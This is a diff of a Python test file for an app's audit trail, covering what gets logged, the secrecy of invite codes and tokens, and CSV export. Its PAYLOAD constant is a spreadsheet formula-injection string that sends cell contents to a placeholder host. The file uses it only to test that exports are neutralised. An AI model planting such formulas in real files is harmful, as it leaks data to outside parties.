@@ -1,6 +1,6 @@
 """The audit trail (issue #18 item 8): every audited kind of change leaves one entry with its
 actor, target and before/after values through the real use case; the table refuses UPDATE and
-DELETE; Pengaturan shows it to admins only, with nothing to edit; its CSV runs no formula."""
+DELETE; `cli.py audit` exports it. Pengaturan's view: tests/test_audit_trail_pages.py."""
 
 from __future__ import annotations
 
@@ -13,25 +13,25 @@ from typing import Any
 from urllib.parse import parse_qs, urlencode, urlsplit
 
 import httpx
+import pandas as pd
 import pytest
 from cryptography.fernet import Fernet
 from sqlalchemy import select, text
 from sqlalchemy.exc import DBAPIError
 from sqlalchemy.orm import Session
-from streamlit.testing.v1 import AppTest
 from typer.testing import CliRunner
 
 from cli import app
+from core import cells
 from core.settings import Settings, load_settings
 from db import audit
 from db import repository as repo
 from db import tokens as token_store
 from db.engine import make_engine, make_session_factory
-from db.migrate import upgrade
 from db.models import Post, Reminder
 from ingest.registry import REGISTRY_COLUMNS
 from services import admin, connections, reminders
-from services.audit import audit_csv, audit_table, cli_actor
+from services.audit import cli_actor
 from services.config import reset_overrides, save_overrides
 from services.invites import INVITE_PARAM, accept_invite, create_invite
 from services.post_review import mark_followed_up, unmark
@@ -40,15 +40,11 @@ from services.web_sessions import open_web_session
 from simulator import sim_settings_env
 from simulator.credentials import facebook_page_token
 from testkit.db_support import NewDatabase
-from tests.app_support import run_page, serve_from, signed_in
 from tests.clock import FIXED_NOW, WIB
 from tests.sample_world import build_sample_world
-from ui.auth import DENIED
 
 runner = CliRunner()
-PAGE = "pages/pengaturan.py"
 CLI = f"cli:{getpass.getuser()}"
-STAFF = Principal("peninjau-audit", REVIEWER)
 PUBLIC_URL = "http://127.0.0.1:8501"
 PAYLOAD = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
 
@@ -143,9 +139,9 @@ def test_review_marks_are_audited(session: Session, world: dict[str, int]) -> No
     post = session.scalars(select(Post).order_by(Post.id)).first()
     assert post is not None
     staff = Principal("peninjau-1", REVIEWER)
-    mark_followed_up(session, post.id, staff, "Sudah ditelepon.", datetime.now(WIB))
+    mark_followed_up(session, post.id, staff, "Sudah ditelepon.", FIXED_NOW)
     mark_followed_up(session, post.id, Principal("kepala", ADMIN), "Sudah diperbaiki.",
-                     datetime.now(WIB))  # fmt: skip
+                     FIXED_NOW)  # fmt: skip
     assert unmark(session, post.id, staff)
     unmarked, second, first = entries(session, "mark")
     assert first["action"] == "mark.marked" and first["before"] is None
@@ -230,7 +226,7 @@ def test_a_consent_connection_is_audited_without_the_token(
     assert facebook_page_token("humas_sintang") not in repr(row)
 
 
-def test_an_invite_accepted_is_audited_as_the_new_user(
+def test_an_invite_made_and_accepted_are_audited_without_its_code(
     session: Session, world: dict[str, int], fixed_now: datetime
 ) -> None:
     add_user(session, "kepala", "kuda-biru-melompat-pagar-79", ADMIN)
@@ -238,7 +234,10 @@ def test_an_invite_accepted_is_audited_as_the_new_user(
     invite = create_invite(session, cfg, Principal("kepala", ADMIN), "DINKES", fixed_now)
     code = parse_qs(urlsplit(invite.link).query)[INVITE_PARAM][0]
     accept_invite(session, code, "admin.dinkes", "bintang-sungai-kapuas-pagi-41", fixed_now)
-    (row,) = entries(session, "user")
+    row, invited = entries(session, "user")
+    assert (invited["action"], invited["actor"]) == ("user.invited", "kepala")
+    assert invited["after"] == {"opd": "DINKES", "berlaku_sampai": invite.expires_at.isoformat()}
+    assert code not in repr(invited)  # the code grants access: never recorded
     assert (row["action"], row["actor"], row["target"]) == (
         "user.added",
         "admin.dinkes",
@@ -246,6 +245,22 @@ def test_an_invite_accepted_is_audited_as_the_new_user(
     )
     assert row["after"] == {"peran": "opd", "opd": "DINKES", "aktif": True, "lewat": "undangan"}
     assert "bintang-sungai" not in repr(row)
+
+
+def test_a_reminder_about_no_account_records_nothing(
+    session: Session, world: dict[str, int]
+) -> None:
+    """A recap sent twice (a double click) records its reminders once: the second finds every
+    account reminded already and passes none, which is no change to audit."""
+    reminders.record(session, [world["dpupr_ig"]], "whatsapp", "6281200000000", "Pesan", "kepala")
+    reminders.record(session, [], "whatsapp", "6281200000000", "Pesan", "kepala")
+    assert [row["action"] for row in entries(session, "reminder")] == ["reminder.recorded"]
+
+
+def test_a_long_target_is_cut_visibly(session: Session) -> None:
+    audit.record(session, "kepala", "reminder.recorded", "instagram akun." * 40)
+    (row,) = entries(session)
+    assert len(row["target"]) == audit.TEXT_MAX["target"] and row["target"].endswith("…")
 
 
 # --- command line --------------------------------------------------------------------------
@@ -329,76 +344,19 @@ def test_the_audit_command_exports_an_inert_csv(cli_db: str) -> None:
     assert runner.invoke(app, ["audit", "--kind", "semua"]).exit_code == 1
 
 
-# --- Pengaturan ----------------------------------------------------------------------------
+def test_the_audit_csv_is_made_inert_once(cli_db: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Twice would be harmless but is work for nothing: core.output's CSV is inert already."""
+    calls: list[int] = []
+    real = cells.inert_frame
 
+    def counted(frame: pd.DataFrame) -> pd.DataFrame:
+        calls.append(1)
+        return real(frame)
 
-@pytest.fixture
-def served(new_db_url: NewDatabase, monkeypatch: pytest.MonkeyPatch, fixed_now: datetime) -> Any:
-    url = new_db_url("audit-page")
-    engine = make_engine(url)
-    upgrade(engine)
-    with make_session_factory(engine)() as session:
-        build_sample_world(session, now=fixed_now)
-        audit.record(session, "kepala", "registry.opd_added", PAYLOAD, None, {"nama": "Uji"})
-        save_overrides(session, load_settings(environ={}), {"PANTAU_ACTIVE_DAYS": "10"},
-                       actor="kepala")  # fmt: skip
-        session.commit()
-    engine.dispose()
-    yield from serve_from(url, monkeypatch)
-
-
-def _audit_tab(at: AppTest) -> Any:
-    (tab,) = [tab for tab in at.tabs if tab.label == "Riwayat Perubahan"]
-    return tab
-
-
-def test_pengaturan_shows_the_trail_to_admins_read_only(served: str) -> None:
-    at = run_page(PAGE)
-    tab = _audit_tab(at)
-    shown = tab.dataframe[0].value
-    assert list(shown.columns) == ["Waktu", "Oleh", "Perubahan", "Sasaran", "Sebelum", "Sesudah"]
-    assert shown["Perubahan"].tolist() == ["Ambang diubah", "OPD ditambahkan"]  # newest first
-    assert shown["Waktu"].iloc[0] == "26 November 2026 13.00 WIB"
-    assert '"Aktif (hari)": "14"' in shown["Sebelum"].iloc[0]
-    # nothing in the tab edits or deletes: a filter, a table, a download
-    for kind in ("data_editor", "button", "text_input", "text_area", "checkbox", "number_input"):
-        assert not list(getattr(tab, kind, [])), kind
-    tab.selectbox(key="audit_kind").set_value("registry").run()
-    assert _audit_tab(at).dataframe[0].value["Perubahan"].tolist() == ["OPD ditambahkan"]
-
-
-def test_a_long_trail_shows_the_newest_and_offers_all_as_csv(
-    served: str, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    monkeypatch.setattr("ui.audit_view.SHOWN_ROWS", 1)
-    tab = _audit_tab(run_page(PAGE))
-    assert tab.dataframe[0].value["Perubahan"].tolist() == ["Ambang diubah"]
-    assert "Ditampilkan 1 perubahan terbaru dari 2" in " ".join(c.value for c in tab.caption)
-
-
-def test_the_trail_loader_is_for_admins_only(served: str) -> None:
-    def script() -> None:
-        import streamlit as st
-
-        from ui.loaders_settings import load_audit
-
-        st.text(f"baris: {len(load_audit(None))}")
-
-    for user, allowed in ((Principal("kepala-uji", ADMIN), True), (STAFF, False)):
-        at = signed_in(AppTest.from_function(script, default_timeout=60), user).run()
-        assert not at.exception
-        assert ([e.value for e in at.error] == [DENIED]) is not allowed
-        assert ([t.value for t in at.text] == ["baris: 2"]) is allowed
-
-
-def test_the_download_is_inert_in_a_spreadsheet(session: Session, world: dict[str, int]) -> None:
-    audit.record(session, "@kepala", "registry.opd_added", PAYLOAD, "+1", "\tdisembunyikan")
-    session.commit()
-    table = audit_table(session, None, WIB)
-    body = audit_csv(table).decode("utf-8")
-    cells = [cell for line in body.splitlines()[1:] for cell in line.split(",")]
-    assert not [cell for cell in cells if cell.lstrip('"').startswith(("=", "+", "-", "@"))]
-    assert "'=HYPERLINK" in body and "'+1" in body and "'@kepala" in body
+    monkeypatch.setattr(cells, "inert_frame", counted)
+    out = runner.invoke(app, ["audit"])
+    assert out.exit_code == 0, out.output
+    assert len(calls) == 1
 
 
 def test_no_code_path_updates_or_deletes_the_trail() -> None:
